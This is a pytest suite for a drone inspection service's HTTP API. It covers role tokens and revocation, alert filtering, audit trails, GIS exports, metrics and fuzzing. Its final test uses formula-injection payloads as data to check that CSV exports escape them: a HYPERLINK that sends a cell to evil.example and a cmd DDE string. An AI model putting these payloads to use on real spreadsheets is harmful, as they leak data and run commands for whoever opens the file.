"""The HTTP API: tokens per role, filters and pages, the audit trail, exports that GIS tools load,
health and metrics, the committed OpenAPI spec, and a schemathesis fuzz of the running app."""

from __future__ import annotations

import csv
import io
import json
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select

from cloud.alerts import record
from cloud.api.app import create_app
from cloud.db import session_scope
from cloud.tokens import create_token
from cloud.towers import import_towers, read_csv
from comms import alert_json
from comms.alert import Alert as Record
from comms.classes import Severity

T0 = datetime(2026, 11, 22, 9, tzinfo=UTC)
SPEC = Path(__file__).resolve().parents[2] / "docs" / "openapi.json"


def _alert(seq: int, lat: float, lon: float, cls: str = "defect", flight: str = "F1", minutes: int = 0) -> Record:
    return Record("UAV-07", seq, flight, T0 + timedelta(minutes=minutes, seconds=seq), lat, lon, 1600.0, cls, 0.9,
                  Severity.HIGH if cls == "defect" else Severity.MEDIUM, position_source="laser", epoch=1,
                  class_list_version=1, source_frame=f"IMG_{seq}.JPG")


@pytest.fixture
def api(db_url):
    """The app on a database holding towers, 6 alerts on two flights and a token of each role."""
    with session_scope(db_url) as s:
        import_towers(s, read_csv("line,tower,lat,lon\nL1,T01,25.30,103.10\nL1,T02,25.31,103.11\n"))
        tokens = {role: create_token(s, f"{role}-1", role, "fleet1" if role == "fleet" else None)
                  for role in ("operator", "fleet", "admin")}
    alerts = [_alert(1, 25.3001, 103.1001), _alert(2, 25.3002, 103.1002, "bird_nest"),
              _alert(3, 25.3101, 103.1101), _alert(4, 25.40, 103.20, minutes=60),
              _alert(5, 25.3001, 103.1001, flight="F2", minutes=120), _alert(6, 26.0, 104.0, flight="F2", minutes=121)]
    for a in alerts:
        with session_scope(db_url) as s:
            record(s, "pli/fleet1/UAV-07/alerts", alert_json.dumps(a, b"\xff\xd8jpeg"))
    client = TestClient(create_app(db_url))
    return client, tokens, alerts


def _h(token: str) -> dict:
    return {"Authorization": f"Bearer {token}"}


def test_nothing_but_health_answers_without_a_token_and_roles_do_not_mix(api):
    client, tokens, _ = api
    assert client.get("/health").json() == {"status": "ok", "database": "ok"}
    for path in ("/alerts", "/faults", "/flights", "/towers", "/jobs", "/releases", "/deployments", "/metrics",
                 "/alerts/export.geojson", "/tokens"):
        r = client.get(path)
        assert r.status_code == 401 and r.json()["detail"].startswith("no token"), path
    assert client.get("/alerts", headers=_h("pli_operator_wrong")).json() == {"detail": "unknown or revoked token"}
    assert client.get("/tokens", headers=_h(tokens["operator"])).status_code == 403  # an operator is no admin
    denied = client.post("/tokens", json={"name": "x", "role": "admin"}, headers=_h(tokens["operator"]))
    assert denied.status_code == 403 and "an operator token cannot do this" in denied.json()["detail"]
    assert client.patch("/alerts/x", json={"status": "confirmed"}, headers=_h(tokens["fleet"])).status_code == 403
    made = client.post("/tokens", json={"name": "bob", "role": "operator"}, headers=_h(tokens["admin"]))
    assert made.status_code == 201 and made.json()["token"].startswith("pli_operator_")
    listed = client.get("/tokens", headers=_h(tokens["admin"])).json()
    assert all("token" not in t and "hash" not in json.dumps(t) for t in listed)
    bob = next(t for t in listed if t["name"] == "bob")
    assert client.get("/alerts", headers=_h(made.json()["token"])).status_code == 200
    client.delete(f"/tokens/{bob['id']}", headers=_h(tokens["admin"]))
    assert client.get("/alerts", headers=_h(made.json()["token"])).status_code == 401  # at once, in this process
    import base64  # what Label Studio can send: basic auth for an ML backend, a header on webhooks

    basic = base64.b64encode(f"ls:{tokens['operator']}".encode()).decode()
    assert client.get("/alerts", headers={"Authorization": f"Basic {basic}"}).status_code == 200
    assert client.get("/alerts", headers={"X-PLI-Token": tokens["operator"]}).status_code == 200


def test_alerts_filter_by_flight_line_tower_class_time_and_box_and_page(api):
    client, tokens, alerts = api
    h = _h(tokens["operator"])

    def ids(**params) -> list[str]:
        r = client.get("/alerts", params=params, headers=h)
        assert r.status_code == 200, r.text
        return sorted(i["id"] for i in r.json()["items"])

    by = {a.seq: a.id for a in alerts}
    assert ids(flight="F2") == sorted([by[5], by[6]])
    assert ids(line="L1", tower="T02") == [by[3]]
    assert ids(**{"class": "bird_nest"}) == [by[2]] and ids(severity="medium") == [by[2]]
    assert ids(since=(T0 + timedelta(minutes=59)).isoformat(), until=(T0 + timedelta(minutes=121)).isoformat()) \
        == sorted([by[4], by[5]])
    assert ids(bbox="103.0995,25.2995,103.1005,25.3005") == sorted([by[1], by[2], by[5]])  # lon first, as GeoJSON
    page = client.get("/alerts", params={"limit": 2, "offset": 2}, headers=h).json()
    assert page["total"] == 6 and len(page["items"]) == 2
    assert client.get("/alerts", params={"bbox": "200,0,0,0"}, headers=h).status_code == 400
    assert client.get("/alerts", params={"limit": 5000}, headers=h).status_code == 422
    one = client.get(f"/alerts/{by[1]}", headers=h).json()
    assert one["thumbnail_jpeg_b64"] and one["source_frame"] == "IMG_1.JPG" and one["span"] == "T01-T02"
    assert client.get("/alerts/nope", headers=h).json() == {"detail": "no alert nope"}


def test_status_changes_are_audited_and_reach_the_fault(api):
    client, tokens, alerts = api
    h = _h(tokens["operator"])
    aid = alerts[0].id
    r = client.patch(f"/alerts/{aid}", json={"status": "repaired"}, headers=h)
    assert r.status_code == 400 and "confirm it first" in r.json()["detail"]
    assert client.patch(f"/alerts/{aid}", json={"status": "confirmed"}, headers=h).status_code == 200
    r = client.patch(f"/alerts/{aid}", json={"status": "repaired", "note": "crew replaced the disc"},
                     headers={**h, "User-Agent": "crew-tablet"})
    assert r.status_code == 200 and r.json()["status"] == "repaired"
    r = client.patch(f"/alerts/{aid}", json={"status": "reclassified"}, headers=h)
    assert r.status_code == 400
    events = client.get(f"/alerts/{aid}/events", headers=h).json()
    assert [(e["old"], e["new"]) for e in events] == [("new", "confirmed"), ("confirmed", "repaired")]
    assert events[1]["actor"] == "operator-1 (operator)" and "crew-tablet" in events[1]["source"]
    assert events[1]["note"] == "crew replaced the disc"
    fault_id = client.get(f"/alerts/{aid}", headers=h).json()["fault_id"]
    fault = client.get(f"/faults/{fault_id}", headers=h).json()
    assert fault["status"] == "repaired" and {o["flight_id"] for o in fault["observations"]} == {"F1", "F2"}


def test_exports_load_in_gis_tools(api):
    import geojson
    from fastkml import kml

    client, tokens, alerts = api
    h = _h(tokens["operator"])
    gj = client.get("/alerts/export.geojson", params={"flight": "F1"}, headers=h)
    assert gj.headers["content-type"].startswith("application/geo+json")
    doc = geojson.loads(gj.text)
    assert doc.is_valid and len(doc["features"]) == 4
    first = next(f for f in doc["features"] if f["id"] == alerts[0].id)
    assert first["geometry"]["coordinates"][:2] == [alerts[0].lon, alerts[0].lat]  # RFC 7946: longitude first
    k = kml.KML.from_string(client.get("/alerts/export.kml", headers=h).content)
    placemarks = list(next(iter(k.features)).features)
    assert len(placemarks) == 6
    p = next(pm for pm in placemarks if pm.name == alerts[0].id)
    assert (p.geometry.x, p.geometry.y) == pytest.approx((alerts[0].lon, alerts[0].lat))
    rows = list(csv.DictReader(io.StringIO(client.get("/alerts/export.csv", headers=h).text)))
    api_items = {i["id"]: i for i in client.get("/alerts", headers=h).json()["items"]}
    assert len(rows) == 6
    for r in rows:  # round trip: every field back as the API gives it
        item = api_items[r["id"]]
        assert float(r["lat"]) == item["lat"] and float(r["lon"]) == item["lon"] and r["class"] == item["class"]
        assert json.loads(r["box"]) == item["box"] if r["box"] else item["box"] is None
    faults = geojson.loads(client.get("/faults/export.geojson", headers=h).text)
    assert faults.is_valid and len(faults["features"]) == 5  # alerts 1 and 5: one fault, two flights


def test_flight_tracks_record_clean_passes_and_metrics_count(api):
    client, tokens, _ = api
    r = client.put("/flights/F3/track", json={"drone_id": "UAV-07", "points": [[25.3101, 103.1101]]},
                   headers=_h(tokens["fleet"]))
    assert r.status_code == 200 and len(r.json()["clean_passes"]) == 1
    assert client.put("/flights/F3/track", json={"drone_id": "UAV-99", "points": []},
                      headers=_h(tokens["fleet"])).json()["detail"].startswith("unknown drone UAV-99:")
    flights = client.get("/flights", headers=_h(tokens["operator"])).json()
    assert {f["id"]: f["alerts"] for f in flights["items"]} == {"F1": 4, "F2": 2, "F3": 0}
    text = client.get("/metrics", headers=_h(tokens["operator"])).text
    assert 'pli_alerts{severity="high",status="new"} 5.0' in text and "pli_http_requests_total" in text


def test_the_committed_openapi_spec_is_the_apps():
    assert json.loads(SPEC.read_text()) == json.loads(json.dumps(create_app("sqlite://").openapi())), \
        "docs/openapi.json is stale: run `pli cloud openapi`"


def test_schemathesis_fuzz_of_the_running_app(tmp_path):
    """Every operation, authenticated as admin, with generated parameters: never a server error,
    responses as the spec says."""
    import schemathesis
    from hypothesis import HealthCheck, given, settings
    from schemathesis.checks import not_a_server_error, response_schema_conformance, status_code_conformance

    from cloud.db import upgrade

    url = f"sqlite:///{tmp_path / 'fuzz.db'}"
    upgrade(url)
    with session_scope(url) as s:
        token = create_token(s, "fuzz", "admin")
        for a in (_alert(1, 25.3, 103.1), _alert(2, 25.31, 103.11, "bird_nest")):
            record(s, "pli/fleet1/UAV-07/alerts", alert_json.dumps(a))
    app = create_app(url)
    schema = schemathesis.openapi.from_asgi("/openapi.json", app)
    failures = []
    for op in schema.get_all_operations():
        operation = op.ok()

        @settings(max_examples=15, deadline=None, suppress_health_check=list(HealthCheck), database=None)
        @given(case=operation.as_strategy())
        def run(case):
            case.call_and_validate(headers={"Authorization": f"Bearer {token}"},
                                   checks=[not_a_server_error, status_code_conformance, response_schema_conformance])

        try:
            run()
        except Exception as exc:  # collect every operation's failure, then report them together
            failures.append(f"{operation.method.upper()} {operation.path}: {str(exc)[:300]}")
    assert not failures, "\n".join(failures)


def test_a_token_revoked_by_another_process_stops_working_within_the_cache_time(api, db_url, monkeypatch):
    """The API keeps a live token for PLI_TOKEN_CACHE_S (a database round trip less per request);
    revoked elsewhere (another server process, the database directly), it is refused once that passes."""
    from cloud import tokens as tokens_mod
    from cloud.models import ApiToken

    client = api[0]
    monkeypatch.setattr(tokens_mod, "CACHE_S", 0.5)
    with session_scope(db_url) as s:
        token = create_token(s, "carol", "operator")
    assert client.get("/alerts", headers=_h(token)).status_code == 200  # looked up, cached
    with session_scope(db_url) as s:
        s.scalar(select(ApiToken).where(ApiToken.name == "carol")).revoked = True
    assert client.get("/alerts", headers=_h(token)).status_code == 200  # still within the cache time
    time.sleep(0.6)
    assert client.get("/alerts", headers=_h(token)).status_code == 401


def test_csv_exports_neutralise_formulas_a_spreadsheet_would_run():
    from cloud.exports import csv_text

    hostile = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    rows = list(csv.DictReader(io.StringIO(csv_text([
        {"id": "UAV-07-00001-0000000001", "lat": -25.5, "lon": 103.1, "source_frame": hostile,
         "model_version": "+cmd|' /C calc'!A0", "tower_id": "@SUM(1+1)", "note": "-2+3", "alt": -12.5}]))))
    r = rows[0]
    assert r["source_frame"] == "'" + hostile and r["model_version"].startswith("'+")
    assert r["tower_id"] == "'@SUM(1+1)" and r["note"] == "'-2+3"
    assert r["lat"] == "-25.5" and r["alt"] == "-12.5"  # numbers stay numbers
